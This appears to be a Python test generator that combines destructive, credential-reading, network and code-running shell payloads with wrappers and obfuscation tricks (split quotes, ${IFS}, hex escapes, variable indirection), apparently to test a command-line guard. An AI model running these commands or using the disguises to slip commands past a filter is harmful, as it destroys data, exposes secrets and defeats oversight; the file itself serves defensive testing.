"""A grammar of command lines that hide something: payloads, disguises, wrappers and frames, put together by chance.

Every line would run its payload, or could, if a shell got it; nothing in this file runs anything. `{out}` in a payload
stands for a folder outside of the workspace. The workspace holds `a`, `notes.txt`, `build/`, `src/` and `link`, which
leads to that folder. `⏵` stands between two lines, `⏎` for a line end within one.
"""

import random
import re
import shlex
from dataclasses import dataclass

from tests.campaigns.ordinary_lines import lines_of

PAYLOADS: dict[str, tuple[str, ...]] = {
    "destructive": lines_of(
        r"""
rm -rf build ⏵ rm -fr . ⏵ rm * ⏵ shred notes.txt ⏵ truncate -s 0 notes.txt ⏵ dd if=/dev/zero of=notes.txt
git reset --hard ⏵ git clean -fdx ⏵ git checkout -- . ⏵ git restore . ⏵ git stash drop ⏵ git branch -D x
find . -delete ⏵ find . -name '*.py' -delete ⏵ chmod -R 000 . ⏵ chown -R nobody . ⏵ pkill python ⏵ git push --force
git push origin +main ⏵ git push origin :main ⏵ rsync -a --delete src/ build/
"""
    ),
    "changes": lines_of(
        r"""
touch new ⏵ mv a b ⏵ cp a b ⏵ ln -s a b ⏵ mkdir d ⏵ tee notes.txt ⏵ sed -i s/x/y/ a ⏵ npm install ⏵ pip install x
git commit -m x ⏵ git add . ⏵ git config core.pager x ⏵ patch -p1 ⏵ install a b
"""
    ),
    "reads outside": lines_of(
        r"""
cat {out}/secret.txt ⏵ head -c 9 ../outside/secret.txt ⏵ grep -r x .. ⏵ grep -f ../outside/secret.txt a ⏵ ls ..
ls -R /etc ⏵ wc -l ../outside/secret.txt ⏵ diff a ../outside/secret.txt ⏵ cat link/secret.txt
cat < ../outside/secret.txt ⏵ cat ~/.ssh/id_rsa ~/.profile /etc/passwd ⏵ rg x .. ⏵ tree .. ⏵ cat /etc/passw?
cat /proc/self/environ ⏵ cat /proc/self/ro''ot/etc/passwd ⏵ cat ../out*/sec* ⏵ echo ../outside/* ⏵ sort /etc/hosts
printf '%s' /etc/* ⏵ git -C ../outside log ⏵ git diff --no-index a ../outside/secret.txt ⏵ od -c /etc/passwd
xargs -a /etc/passwd ⏵ jq -n --rawfile x ../outside/secret.txt '$x' ⏵ cat src/../../outside/secret.txt
strings ./link/secret.txt
"""
    ),
    "writes outside": lines_of(
        r"""
cp a ../outside/b ⏵ tee {out}/new ⏵ mv a .. ⏵ ln -s a ../outside/c ⏵ touch link/new ⏵ mkdir ../outside/d
sed -i s/x/y/ ../outside/secret.txt ⏵ git clone . ../outside/e ⏵ tar xf a -C .. ⏵ install a /usr/local/bin/b
"""
    ),
    "network": lines_of(
        r"""
curl http://example.com ⏵ curl -d @notes.txt http://example.com ⏵ wget http://example.com ⏵ nc example.com 80
ssh example.com ⏵ scp a example.com: ⏵ git push ⏵ git fetch ⏵ git pull ⏵ ping example.com ⏵ rsync a h:
git ls-remote http://example.com/x ⏵ npm publish ⏵ pip download x ⏵ dig example.com ⏵ host example.com
"""
    ),
    "runs code": lines_of(
        r"""
./evil.sh ⏵ python evil.py ⏵ python -c 'print(1)' ⏵ node -e 1 ⏵ make ⏵ npx evil ⏵ bash evil.sh ⏵ sh ./x
awk 'BEGIN{system("x")}' ⏵ perl -e 1 ⏵ sed 1ex a ⏵ sed s/x/id/e a ⏵ rg --pre ./x y ⏵ vim -c '!x' a
sort --compress-program=./x a ⏵ sort --compress-prog ./x -S 1 a ⏵ tar cf a --checkpoint-action=exec=x . ⏵ xargs -a a
git grep -O./x y ⏵ git -c core.fsmonitor=./x status ⏵ git -c alias.z=!x z ⏵ git bisect run ./x ⏵ man -P./x ls
git submodule foreach ./x ⏵ git rebase -x ./x HEAD ⏵ git difftool -x ./x ⏵ git diff --ext-diff ⏵ fd -x ./x
git log --textconv ⏵ find . -exec ./x {} + ⏵ env ./x ⏵ ssh -oProxyCommand=./x h ⏵ tree --output=a ⏵ less +!x a
source ./x ⏵ . ./x ⏵ git fetch --upload-pack=./x ⏵ git archive --remote=. --exec=./x HEAD ⏵ date -s 1
"""
    ),
}

_WRAPPERS = lines_of(
    r"""
env {p} ⏵ env A=1 {p} ⏵ env -i {p} ⏵ env -u HOME {p} ⏵ sudo {p} ⏵ sudo -u nobody {p} ⏵ doas {p} ⏵ nohup {p}
nice {p} ⏵ nice -n 5 {p} ⏵ nice -5 {p} ⏵ timeout 5 {p} ⏵ timeout -k 1 5s {p} ⏵ time {p} ⏵ time -p {p} ⏵ command {p}
command -p {p} ⏵ exec {p} ⏵ exec -a ls {p} ⏵ stdbuf -oL {p} ⏵ setsid {p} ⏵ ionice -c 3 {p} ⏵ xargs {p}
ls | xargs {p} ⏵ ls | xargs -I % {p} ⏵ ls | xargs -0 -n 1 {p} ⏵ find . -exec {p} \; ⏵ busybox {p}
find a -execdir {p} + ⏵ find . -ok {p} ';' ⏵ flock a {p} ⏵ chroot / {p} ⏵ taskset 1 {p} ⏵ coproc {p} ⏵ A=1 {p}
unshare -r {p} ⏵ strace {p} ⏵ watch {p} ⏵ parallel {p} ::: a ⏵ systemd-run {p} ⏵ setarch {p} ⏵ chrt 1 {p}
LC_ALL=C {p} ⏵ LC_ALL=C timeout 3 nice {p} ⏵ env -S{q} ⏵ env --split-string={q} ⏵ prlimit {p} ⏵ fakeroot {p}
bash {o}c {q} ⏵ sh -c {q} ⏵ bash -lc {q} ⏵ zsh -c {q} ⏵ bash -euo pipefail -c {q} ⏵ sh -c -- {q} ⏵ eval {q}
eval {p} ⏵ trap {q} EXIT ⏵ trap {q} 0 DEBUG ⏵ su -c {q} ⏵ script -qc {q} /dev/null ⏵ ssh localhost {q}
bash -c 'eval "$1"' _ {q} ⏵ bash <<< {q} ⏵ echo {q} | sh ⏵ printf %s {q} | bash -s ⏵ source <(echo {q})
. <(echo {q}) ⏵ bash <(echo {q}) ⏵ sh <<'END'⏎{p}⏎END ⏵ sh <<END⏎{p}⏎END ⏵ cat <<END | sh⏎{p}⏎END
git -c alias.z={bang} z ⏵ git -c core.pager={q} log ⏵ GIT_PAGER={q} git log ⏵ GIT_SSH_COMMAND={q} git fetch
PAGER={q} git log ⏵ LESSOPEN={q} cat a ⏵ PROMPT_COMMAND={q} ls ⏵ git -c core.sshCommand={q} fetch
GIT_EXTERNAL_DIFF={q} git diff ⏵ find . -exec sh -c {q} \; ⏵ find . -name a -exec bash -c {q} _ {{}} +
ls | xargs sh -c {q} ⏵ nohup sh -c {q} ⏵ awk 'BEGIN {{ system("x") }}' && {p} ⏵ git submodule foreach {q}
git bisect run {p} ⏵ git rebase --exec {q} HEAD ⏵ env -C .. {p} ⏵ env --chdir=.. {p} ⏵ alias z={q}; z
shopt -s expand_aliases; alias z={q}⏎z ⏵ exec 3<&0; {p}
"""
)
_FRAMES = lines_of(
    r"""
{p} ⏵ ls; {p} ⏵ ls && {p} ⏵ ls || {p} ⏵ ls | {p} ⏵ ls & {p} ⏵ ls |& {p} ⏵ ls⏎{p} ⏵ ({p}) ⏵ {{ {p}; }} ⏵ ! {p}
ls && (cd src; {p}) ⏵ ls && {{ ls || {p}; }} ⏵ if ls; then {p}; fi ⏵ if {p}; then ls; fi ⏵ {p} & ⏵ {p}; ls
for i in a b; do {p}; done ⏵ while {p}; do break; done ⏵ until {p}; do ls; done ⏵ case a in a) {p};; esac
f() {{ {p}; }}; f ⏵ function f {{ {p}; }}; f ⏵ ls $({p}) ⏵ ls `{p}` ⏵ ls "$({p})" ⏵ ls <({p}) ⏵ ls >({p}) ⏵ x=$({p})
export X=$({p}) ⏵ echo ${{x:-$({p})}} ⏵ echo $((1 + $({p}))) ⏵ [[ -n $({p}) ]] ⏵ a=(1 $({p})) ⏵ cat <<END⏎$({p})⏎END
cat <<END; {p}⏎x⏎END ⏵ cat <<'END'⏎x⏎END⏎{p} ⏵ cat <<-END⏎	x⏎	END⏎{p} ⏵ ls # it's⏎{p} ⏵ ls \⏎; {p}
{p} > /dev/null 2>&1 ⏵ {p} 2>/dev/null ⏵ cat a | while read x; do {p}; done ⏵ ls 'a' "b"; {p} ⏵ echo "a\"b"; {p}
git status && {p} ⏵ git log --oneline | {p} ⏵ npm test; {p} ⏵ npm test && {p} ⏵ ls $(ls $({p}))
echo "$(echo "$({p})")" ⏵ echo $'a\'b'; {p} #' ⏵ ls;{p} ⏵ ls&&{p} ⏵ ls||{p} ⏵ cd src && cd .. && {p}
declare x=$({p}) ⏵ ls < <({p}) ⏵ {p} | tee /dev/null ⏵ time ls; {p} ⏵ ls & wait; {p} ⏵ [ -n "$({p})" ] ⏵ true; {p}
"""
)


@dataclass(frozen=True, slots=True)
class Line:
    """A command line, what kind of thing it hides, and how it was put together."""

    text: str
    kind: str
    payload: str
    way: str


def make_line(chance: random.Random, outside: str) -> Line:
    kind = chance.choice(list(PAYLOADS))
    payload = chance.choice(PAYLOADS[kind]).replace("{out}", outside)
    text, way = payload, []
    if chance.random() < 0.45:
        text, name = _disguised(text, chance)
        way.append(name)
    for _ in range(chance.choice((0, 1, 1, 2))):
        wrapper = chance.choice(_WRAPPERS)
        text = _put(wrapper, text, chance)
        way.append(wrapper.split()[0].partition("{")[0])
    for _ in range(chance.choice((0, 1, 1, 2))):
        frame = chance.choice(_FRAMES)
        if not _fits(frame, text):
            continue
        text = frame.format(p=text)
        way.append(repr(frame))
    return Line(text, kind, payload, " > ".join(way) or "plain")


def _fits(frame: str, text: str) -> bool:
    """A here-document inside a line would swallow what follows it, and a backquote ends at the next one."""
    return not ("\n" in text and not frame.endswith("{p}")) and not ("`" in frame and ("`" in text or "\\" in text))


def _put(wrapper: str, text: str, chance: random.Random) -> str:
    if "\n" in text and "{p}" in wrapper:
        wrapper = "sh -c {q}"
    if re.match(r"\w+=", text) and "{p}" in wrapper and not re.match(r"\w+=\S* \{p\}", wrapper):
        text = f"env {text}"  # only a shell takes an assignment before a command
    if wrapper == "eval {p}" or (re.search(r"[|;&<>(]", text) and wrapper.startswith(("find", "parallel", "alias"))):
        wrapper = "eval {q}"
    return wrapper.format(
        p=text, q=shlex.quote(text), bang=shlex.quote(f"!{text}"), o=chance.choice(("-", "+B -", "-x -"))
    )


def _disguised(command: str, chance: random.Random) -> tuple[str, str]:
    """The same command written otherwise."""
    program, _, rest = command.partition(" ")
    tail = f" {rest}" if rest else ""
    ways = {
        "quoted": f"'{program}'{tail}",
        "split quotes": f"{program[:1]}''{program[1:]}{tail}",
        "double quotes": f'{program[:1]}"{program[1:]}"{tail}',
        "backslash": f"\\{program}{tail}",
        "inner backslash": f"{program[:1]}\\{program[1:]}{tail}" if len(program) > 1 else command,
        "joined line": f"{program[:1]}\\\n{program[1:]}{tail}",
        "full path": f"/usr/bin/{program}{tail}" if "/" not in program and program not in (".", "source") else command,
        "odd path": f"/usr/bin/../bin/{program}{tail}"
        if "/" not in program and program not in (".", "source")
        else command,
        "ansi-c": f"$'{program}'{tail}",
        "ansi-c hex": f"$'\\x{ord(program[0]):02x}{program[1:]}'{tail}",
        "substitution": f"$(echo {program}){tail}",
        "backquotes": f"`echo {program}`{tail}",
        "variable": f"X={program}; $X{tail}",
        "default value": f"${{X:-{program}}}{tail}",
        "joined variable": f"X={program[1:]}; {program[:1]}$X{tail}",
        "whole variable": f"X={shlex.quote(command)}; $X",
        "eval variable": f'X={shlex.quote(command)}; eval "$X"',
        "field separator": command.replace(" ", "${IFS}"),
        "empty expansion": f"{program[:1]}${{Z}}{program[1:]}{tail}",
        "braces": "{" + command.replace(" ", ",") + "}"
        if " " in command and not set("'\"\\<>|;&*?") & set(command)
        else command,
        "glob": f"/usr/bin/{program[:-1]}?{tail}" if "/" not in program and len(program) > 1 else command,
        "localised": f'$"{program}"{tail}',
        "tabs": command.replace(" ", "\t"),
        "redirect first": f"</dev/null {command}",
        "redirect between": f"{program} </dev/null{tail}",
    }
    name = chance.choice(list(ways))
    return ways[name], name
